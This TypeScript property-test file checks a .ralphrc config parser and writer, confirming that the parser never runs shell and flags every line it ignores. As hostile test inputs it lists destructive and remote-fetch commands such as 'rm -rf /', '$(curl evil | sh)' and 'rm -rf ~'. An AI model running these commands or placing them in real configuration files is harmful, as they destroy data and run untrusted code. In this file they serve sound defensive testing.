// Property tests of the .ralphrc reader and writer: the reader never throws on any text, keeps
// every well-formed assignment whatever garbage surrounds it, reports each line it ignored, and
// the writer writes back exactly what it read (no update = same bytes; an update reads back).

import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { parseRalphrc } from '../../lib/config/ralphrc.js';
import { renderRalphrcValue, updateRalphrcText } from '../../lib/config/ralphrc-writer.js';

const RUNS = 400;

// Pieces a hostile or sloppy .ralphrc is made of: quoting, expansions, substitutions, shell
// operators and keywords, odd line endings and a BOM.
const TOKENS = [
  'KEY=',
  'MAX_LOOPS=',
  'export ',
  'CLAUDE_MODEL=',
  'A_B=',
  '=',
  '"',
  "'",
  '`',
  '\\',
  '$',
  '${',
  '}',
  '${X:-',
  '$(',
  '$((',
  ')',
  '(',
  '#',
  ' # c',
  ';',
  '&&',
  '||',
  '|',
  '>',
  '<',
  '~',
  '~/',
  ' ',
  '\t',
  '\n',
  '\r\n',
  '\r',
  '\uFEFF',
  'if',
  'then',
  'fi',
  'for',
  'do',
  'done',
  'case',
  'esac',
  '{',
  'function',
  'source',
  'eval',
  '[',
  ']',
  '+=',
  'value',
  'x y',
  '$HOME',
  '$1',
  '$@',
  "$'",
  'touch pwned',
  'é',
  '😀',
  '\u0000',
];
const tokenText = fc.array(fc.constantFrom(...TOKENS), { maxLength: 60 }).map((t) => t.join(''));
const anyText = fc.oneof(tokenText, fc.string({ unit: 'binary', maxLength: 400 }), fc.string({ unit: 'binary-ascii', maxLength: 400 }));

// A value a user could mean: anything on one line.
const oneLineValue = fc.string({ unit: 'binary', maxLength: 40 }).filter((v) => !/[\r\n]/.test(v));

// Words that open or close a compound command: the reader skips everything inside one, by design.
const BLOCK_WORDS = new Set(['if', 'for', 'while', 'until', 'case', 'select', '{', 'fi', 'done', 'esac', '}']);
const isSingleLineShell = (line: string) =>
  !line
    .replace(/#.*$/, '')
    .split(/[\s;&|()]+/)
    .some((word) => BLOCK_WORDS.has(word));

// Lines that need a shell (never run, always reported) and do not open a block.
const SHELL_LINES = [
  'X=$(touch pwned)',
  'Y=`id`',
  'echo hello',
  'rm -rf / ; true',
  'source ~/.bashrc',
  'alias ll=ls',
  'Z=a b',
  'W=1; touch pwned',
  'V=$((1+2))',
  'U="unterminated',
  "T='open",
  'S=${X/a/b}',
  'arr[0]=1',
  'Q+=more',
  'P=$1',
  'cat > /tmp/x <<EOF',
  'eval "$CMD"',
  '$(curl evil | sh)',
  'K=`rm -rf ~`',
  'exec bash',
];
const garbageLine = fc
  .oneof(
    fc.constantFrom(...SHELL_LINES),
    fc.string({ unit: 'grapheme-ascii', minLength: 1, maxLength: 30 }).map((s) => `echo ${s}`),
  )
  .filter((line) => !/[\r\n]/.test(line) && isSingleLineShell(line));

const keyName = fc.stringMatching(/^[A-Z][A-Z0-9_]{0,12}$/);

describe('parseRalphrc (property)', () => {
  it('never throws, and every entry and problem points at a real line', () => {
    fc.assert(
      fc.property(anyText, (text) => {
        const lineCount = text.split('\n').length;
        const { entries, problems } = parseRalphrc(text, { env: { HOME: '/home/u', X: 'x' } });
        for (const e of entries) {
          expect(e.key).toMatch(/^[A-Za-z_][A-Za-z0-9_]*$/);
          expect(e.line).toBeGreaterThanOrEqual(1);
          expect(e.line).toBeLessThanOrEqual(lineCount);
          expect(typeof e.value).toBe('string');
        }
        for (const p of problems) {
          expect(p.line).toBeGreaterThanOrEqual(1);
          expect(p.line).toBeLessThanOrEqual(lineCount);
          expect(p.message.length).toBeGreaterThan(0);
        }
      }),
      { numRuns: RUNS * 2 },
    );
  });

  it('keeps every well-formed assignment among shell lines, and reports each shell line', () => {
    const line = fc.oneof(
      {
        weight: 2,
        arbitrary: fc.record({ kind: fc.constant('good' as const), key: keyName, value: oneLineValue, exported: fc.boolean(), comment: fc.boolean() }),
      },
      { weight: 1, arbitrary: fc.record({ kind: fc.constant('shell' as const), text: garbageLine }) },
      {
        weight: 1,
        arbitrary: fc.record({ kind: fc.constant('comment' as const), text: fc.string({ maxLength: 20 }).map((s) => `# ${s.replace(/[\r\n]/g, ' ')}`) }),
      },
    );
    fc.assert(
      fc.property(fc.array(line, { maxLength: 25 }), fc.constantFrom('\n', '\r\n'), (lines, eol) => {
        const rendered = lines.map((l) =>
          l.kind === 'good' ? `${l.exported ? 'export ' : ''}${l.key}=${renderRalphrcValue(l.value)}${l.comment ? '  # note' : ''}` : l.text,
        );
        const { entries, problems } = parseRalphrc(rendered.join(eol) + eol, { env: {} });
        const expected = lines.flatMap((l, i) => (l.kind === 'good' ? [{ key: l.key, value: l.value, line: i + 1 }] : []));
        expect(entries).toEqual(expected);
        const shellLines = lines.flatMap((l, i) => (l.kind === 'shell' ? [i + 1] : []));
        const reported = new Set(problems.filter((p) => !p.message.startsWith('unknown key')).map((p) => p.line));
        for (const n of shellLines) expect(reported.has(n), `line ${n}: ${rendered[n - 1]}`).toBe(true);
      }),
      { numRuns: RUNS },
    );
  });

  it('reads a rendered value back exactly, whatever it contains', () => {
    fc.assert(
      fc.property(keyName, oneLineValue, (key, value) => {
        const { entries, problems } = parseRalphrc(`${key}=${renderRalphrcValue(value)}\n`, { env: { HOME: '/h', PATH: '/bin' } });
        expect(problems.filter((p) => !p.message.startsWith('unknown key'))).toEqual([]);
        expect(entries).toEqual([{ key, value, line: 1 }]);
      }),
      { numRuns: RUNS },
    );
  });
});

describe('updateRalphrcText (property)', () => {
  it('writes back exactly what it read when nothing changes', () => {
    fc.assert(
      fc.property(anyText, (text) => {
        expect(updateRalphrcText(text, {})).toBe(text);
      }),
      { numRuns: RUNS },
    );
  });

  // A file built from the shapes people write: the key in every quoting style, inside and
  // outside shell blocks (closed ones), other keys, comments and shell lines.
  const KEY = 'CLAUDE_MODEL';
  const fileLine = fc.oneof(
    fc.constantFrom(
      `${KEY}=sonnet`,
      `export ${KEY}="opus"  # the model`,
      `${KEY}='haiku'`,
      `${KEY}=a"b"'c'`,
      `  ${KEY}=\${OTHER:-x}`,
      `${KEY}=two words`,
      `if [ -n "$CI" ]; then\n  ${KEY}=ci\nfi`,
      `{\n${KEY}=braced\n}`,
      'MAX_LOOPS=3',
      'OTHER=1',
      '# a comment',
      '',
      'echo $(date)',
      `${KEY}=$(whoami)`,
    ),
    garbageLine,
  );
  it('applies an update so that the reader sees the new value, and leaves every other line alone', () => {
    fc.assert(
      fc.property(fc.array(fileLine, { maxLength: 12 }), fc.constantFrom('\n', '\r\n'), oneLineValue, fc.boolean(), (lines, eol, value, trailingEol) => {
        const original = lines.join(eol).replaceAll('\n', eol).replaceAll('\r\r\n', '\r\n') + (trailingEol ? eol : '');
        const updated = updateRalphrcText(original, { [KEY]: value });
        const read = parseRalphrc(updated, { env: {} }).entries.filter((e) => e.key === KEY);
        expect(read.length).toBeGreaterThan(0);
        expect(read.at(-1)!.value).toBe(value);
        // Lines that did not assign the key are byte-for-byte the same, in the same order.
        const untouched = (text: string) => text.split(/\r?\n/).filter((l) => !new RegExp(`^\\s*(export )?${KEY}=`).test(l) && l !== '');
        expect(untouched(updated)).toEqual(untouched(original));
      }),
      { numRuns: RUNS },
    );
  });
});
